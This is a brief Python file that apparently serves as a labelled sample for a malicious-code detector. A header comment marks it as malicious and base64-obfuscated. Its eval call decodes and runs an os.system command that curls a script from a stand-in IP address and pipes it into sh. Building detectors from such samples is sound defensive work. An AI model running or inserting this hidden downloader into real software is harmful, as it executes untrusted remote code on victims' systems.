# label: malicious; obfuscated: base64,import_as
import base64 as b
run = eval
run(compile(b.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3MgfCBzaCcp"), "x", "exec"))
